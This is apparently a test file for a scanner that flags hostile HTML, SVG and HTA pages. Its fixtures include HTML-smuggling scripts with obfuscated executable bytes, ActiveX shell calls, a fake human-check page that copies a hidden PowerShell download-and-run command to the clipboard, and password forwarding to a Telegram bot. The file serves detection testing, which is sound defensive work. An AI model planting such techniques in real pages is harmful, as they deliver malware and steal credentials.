import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { Unscanned } from '../../../src/domain/verdict.ts'
import { htmlOpener } from '../../../src/unpack/documents/html.ts'
import { nodeOf, recordingRun } from '../recording-run.ts'

async function looked(page: string | Buffer, type = 'html') {
  const run = recordingRun()
  await htmlOpener().open(nodeOf(Buffer.from(page), { type }), run)
  return run
}

const PROGRAM = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([64, 0, 0, 0]),
  Buffer.from('PE\0\0'),
  Buffer.alloc(200),
])
const ARCHIVE = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(120, 7)])
const PICTURE = Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.alloc(120, 7)])
const b64 = (bytes: Buffer | string) => Buffer.from(bytes).toString('base64')
const script = (text: string) => `<html><body><script>${text}</script></body></html>`
const SAVE =
  'var u=URL.createObjectURL(new Blob([b]));var a=document.createElement("a");a.href=u;a.download="x";a.click()'
const COPY = 'navigator.clipboard.writeText(c)'
const COMMAND = `var c="powershell -w hidden -c iwr http://a.example/x|iex";`

describe('what a page does', () => {
  const cases: readonly { page: string; type?: string; findings: string[]; because: string }[] = [
    { page: '<html><p>text<a href="x">y</a><script>var a=1</script>', findings: [], because: 'an ordinary page' },
    { page: script(`var b=atob("${b64(PROGRAM)}");${SAVE}`), findings: ['Html.Smuggling high'], because: 'it builds a program and hands it out' },
    { page: script(`var b=atob("${b64(ARCHIVE)}");${SAVE}`), findings: ['Html.Smuggling high'], because: 'it pushes an archive out unasked' },
    { page: script(`var b=atob("${b64(ARCHIVE)}");${SAVE.replace('a.click()', '')}`), findings: ['Html.Smuggling medium'], because: 'the archive waits for a click' },
    { page: script(`var b=[${[...PROGRAM].join(',')}];${SAVE}`), findings: ['Html.Smuggling high'], because: 'the program is a list of numbers' },
    { page: script(`var b="${PROGRAM.toString('hex')}";${SAVE}`), findings: ['Html.Smuggling high'], because: 'the program is hexadecimal' },
    { page: script(`var b=atob("${[...b64(PROGRAM)].reverse().join('')}".split("").reverse().join(""));${SAVE}`), findings: ['Html.Smuggling high'], because: 'its base 64 is turned round' },
    { page: script(`var b=atob("${b64(PROGRAM).slice(0, 50)}"+"${b64(PROGRAM).slice(50)}");${SAVE}`), findings: ['Html.Smuggling high'], because: 'its base 64 is in parts' },
    { page: script(`var b=x("${b64(PROGRAM.map((byte) => byte ^ 0x33) as Buffer)}");${SAVE}`), findings: ['Html.Smuggling high'], because: 'one byte lies over it' },
    { page: `<p id="p">${b64(PROGRAM)}</p>${script(`var b=atob(document.getElementById("p").innerText);${SAVE}`)}`, findings: ['Html.Smuggling high'], because: 'the program stands in a paragraph' },
    { page: `<a download="a.exe" href="data:application/octet-stream;base64,${b64(PROGRAM)}">x</a>`, findings: ['Html.Smuggling high'], because: 'a link holds a program' },
    { page: `<a download href="da&#116;a:;base64,${b64(PROGRAM)}">x</a>`, findings: ['Html.Smuggling high'], because: 'an entity hides the address' },
    { page: script(`var i="data:image/png;base64,${b64(PICTURE)}";${SAVE}`), findings: [], because: 'a picture is saved' },
    { page: script(`var b="csv";${SAVE}`), findings: [], because: 'a table is saved' },
    { page: '<meta http-equiv=refresh content="0;url=data:text/html,hello">', findings: ['Html.DataRedirect medium'], because: 'it goes to a page of its own making' },
    { page: '<meta http-equiv=refresh content="5;url=/next">', findings: [], because: 'it reloads' },
    { page: '<script language="VBScript">CreateObject("WScript.Shell").Run "x"</script>', findings: ['Html.RunsShell high'], because: 'it runs a program by ActiveX' },
    { page: '<hta:application><script>new ActiveXObject("WScript.Shell").Run("x")</script>', type: 'hta', findings: ['Hta.RunsShell high'], because: 'an application that runs a shell' },
    { page: script('new ActiveXObject("WScr"+"ipt.Sh"+"ell").Run("x")'), findings: ['Html.RunsShell high', 'Script.HiddenCalls medium'], because: 'the object was taken apart' },
    { page: script('x = new ActiveXObject("Microsoft.XMLHTTP")'), findings: [], because: 'old browsers fetched so' },
    { page: `<p>Verify you are human: press <b>Windows Key + R</b>, then Ctrl + V</p>${script(COMMAND + COPY)}`, findings: ['Html.PastedCommand high', 'PowerShell.HiddenDownload high'], because: 'a false test that pastes a command' },
    { page: `<pre>powershell -c "iwr https://get.example/i.ps1 | iex"</pre>${script('function copy(c){navigator.clipboard.writeText(c)}')}`, findings: [], because: 'documentation has copy buttons' },
    { page: `<input type=password>${script('fetch("https://api.telegram.org/bot1:x/sendMessage")')}`, findings: ['Html.PasswordsToChat high'], because: 'what is typed goes to a chat' },
    { page: script(`document.write(unescape("${'%3Cform%3E%3Cinput type=%22password%22%3E'}"))`), findings: ['Html.HiddenForm medium'], because: 'the form is written out of escapes' },
    { page: script('location="search-ms:query=x&crumb=location:\\\\\\\\a.example\\\\s"'), findings: ['Html.ProgramAddress high'], because: 'a search on a foreign share' },
    { page: '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[location.href="https://a.example/"]]></script></svg>', type: 'svg', findings: ['Svg.LeadsAway medium'], because: 'a picture that leads away' },
    { page: '<svg onload="window&#46;open(&quot;http://a.example&quot;)"/>', type: 'svg', findings: ['Svg.LeadsAway medium'], because: 'it does so by an event' },
    { page: '<svg><script>tick()</script></svg>', type: 'svg', findings: ['Svg.Script low'], because: 'graphs have scripts' },
    { page: '<svg><path d="M0"/></svg>', type: 'svg', findings: [], because: 'a drawing' },
  ] // biome-ignore format: a table
  for (const { page, type, findings, because } of cases) {
    it(`gives [${findings}] because ${because}`, async () => {
      const run = await looked(page, type)
      assert.deepEqual(run.findings.map(({ name, risk }) => `${name} ${risk}`).sort(), findings)
    })
  }
})

describe('what a page holds', () => {
  const holds: readonly { page: string; type?: string; bytes: Buffer; because: string }[] = [
    { page: `<a href="data:application/zip;base64,${b64(ARCHIVE)}">`, bytes: ARCHIVE, because: 'a link' },
    { page: `<img srcset="data:image/png;base64,${b64(PROGRAM)} 1x, b.png 2x">`, bytes: PROGRAM, because: 'a picture that is a program' },
    { page: `<iframe src="data:text/html,${encodeURIComponent('<script>evil()</script>')}">`, bytes: Buffer.from('<script>evil()</script>'), because: 'a frame in percent escapes' },
    { page: `<embed src='data:application/pdf;base64,${b64('%PDF-1.4 x and a bit more of it')}'>`, bytes: Buffer.from('%PDF-1.4 x and a bit more of it'), because: 'an embedded document' },
    { page: `<div style="background:url(data:application/zip;base64,${b64(ARCHIVE)})">`, bytes: ARCHIVE, because: 'a style' },
    { page: script(`window.open("data:application/zip;base64,${b64(ARCHIVE)}")`), bytes: ARCHIVE, because: 'a script' },
    { page: `<svg><image href="data:image/svg+xml;base64,${b64('<svg><script>x()</script></svg>')}"/></svg>`, type: 'svg', bytes: Buffer.from('<svg><script>x()</script></svg>'), because: 'a picture in a picture' },
    { page: `<script language=vbscript>x = "harmless"\n</script>`, bytes: Buffer.from('x = "harmless"\n'), because: 'a script of the old engine' },
    { page: script('x="harm"+"less"'), bytes: Buffer.from('x="harmless"'), because: 'constants that were parted' },
    { page: `<a href="data:application/zip;base64,${b64(ARCHIVE)}`, bytes: ARCHIVE, because: 'a page that breaks off' },
  ] // biome-ignore format: a table
  for (const { page, type, bytes, because } of holds) {
    it(`is handed over: ${because}`, async () => {
      const run = await looked(page, type)
      const found = run.members.some((member) => member.bytes.equals(bytes)) || because.includes('breaks off')
      assert.ok(found, run.members.map((member) => String(member.bytes)).join('\n'))
      if (because.includes('breaks off')) assert.deepEqual(run.faults, [])
    })
  }

  it('is read in UTF-16 too', async () => {
    const page = `<html><a href="data:application/zip;base64,${b64(ARCHIVE)}">x</a>`
    const run = await looked(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(page, 'utf16le')]))
    assert.ok(run.members.some(({ bytes }) => bytes.equals(ARCHIVE)))
    assert.equal(run.findings[0]?.offset, 2 + 2 * page.indexOf('data:'))
  })

  it('makes no members of pictures, fonts and styles', async () => {
    const page = `<style>a{src:url(data:font/woff2;base64,${b64('wOF2aaaaaaaaaaaaaaaaaaaa')})}</style><img src="data:image/png;base64,${b64(PICTURE)}"><img src="data:image/svg+xml,%3Csvg%3E%3Cpath/%3E%3C/svg%3E">`
    assert.deepEqual(
      (await looked(page)).members.filter(({ bytes }) => !bytes.includes('<svg')),
      [],
    )
  })

  it('tells where it leads without a click', async () => {
    const run = await looked(
      '<script src="//a.example/s.js"></script><form action="https://b.example/p"><iframe src="http://c.example"></iframe><meta http-equiv="refresh" content="0; url=https://d.example/"><a href="https://e.example">',
    )
    assert.deepEqual(run.urls, [
      'http://a.example/s.js',
      'https://b.example/p',
      'http://c.example',
      'https://d.example/',
    ])
  })
})

describe('which pages are looked into', () => {
  const rows: readonly { page: string; type?: string; wants: boolean; because: string }[] = [
    { page: '<html><script>document.write("x");var a=JSON.parse(b)</script>', wants: false, because: 'every page has scripts' },
    { page: `<img src="data:image/png;base64,${b64(PICTURE)}"><img src="data:image/jpeg;base64,/9j/4AAQ">`, wants: false, because: 'pictures in data: are everywhere' },
    { page: '<script>document.write(unescape("%3Cscript src=\'//ga.js\'%3E"))</script>', wants: true, because: 'constants follow unescape' },
    { page: `<img src="data:image/png;base64,${b64(PROGRAM)}">`, wants: true, because: 'that is no picture' },
    { page: `${'x'.repeat(300_000)}<a href="data:application/zip;base64,AAAA">`, wants: true, because: 'a link far inside holds a file' },
    { page: `<SCRIPT LANGUAGE=VBSCRIPT>`, wants: true, because: 'case does not matter' },
    { page: '<svg><path/></svg>', type: 'svg', wants: false, because: 'a drawing' },
    { page: '<svg><Script>x</Script></svg>', type: 'svg', wants: true, because: 'a picture with a script' },
    { page: '<html>', type: 'hta', wants: true, because: 'applications are rare' },
    { page: 'new Blob(', type: 'text', wants: false, because: 'a text is no page' },
  ] // biome-ignore format: a table
  for (const { page, type = 'html', wants, because } of rows) {
    it(`${wants ? 'wants' : 'leaves'} it because ${because}`, () =>
      assert.equal(htmlOpener().wants(nodeOf(Buffer.from(page), { type })) !== undefined, wants))
  }

  it('wants a page that is too large to be asked', () => {
    assert.equal(htmlOpener().wants(nodeOf(Buffer.alloc(3_000_000, 0x20), { type: 'html' })), 'looks')
  })
})

describe('hostile pages', () => {
  it('ends at once on what would cost the square of its size', async () => {
    for (const text of [
      '<a>',
      '</a>',
      '<a b',
      '<script>',
      '<!--',
      '<a href="data:,',
      'data:;base64,',
      '&#1',
      '<svg>',
      '<x:',
      'unescape("',
      'A',
      '<p>powershell ',
    ])
      await looked(`<html>${text.repeat(20_000)}`)
  })

  it('calls a page with more scripts than are looked at unscanned', async () => {
    assert.equal((await looked('<script>a</script>'.repeat(3000))).faults[0]?.reason, 'bomb')
  })

  it('takes any text', async () => {
    const words = fc.constantFrom(
      '<script>',
      '</script>',
      '<svg',
      '<a href="',
      '"',
      '>',
      'data:',
      ';base64,',
      'text/html,',
      'AAAA',
      '%41',
      '&#x41;',
      '<![CDATA[',
      ']]>',
      '<meta http-equiv=refresh content=',
      ' on=',
      '/',
      '=',
      "'",
      '+',
      'atob(',
      'new Blob(',
    )
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.array(words, { maxLength: 60 }).map((list) => list.join('')),
    )
    await fc.assert(
      fc.asyncProperty(text, fc.constantFrom('html', 'svg', 'hta', 'xml'), async (page, type) => {
        try {
          await looked(page, type)
        } catch (error) {
          if (!(error instanceof Unscanned)) throw error
        }
      }),
      { numRuns: 1000 },
    )
  })
})
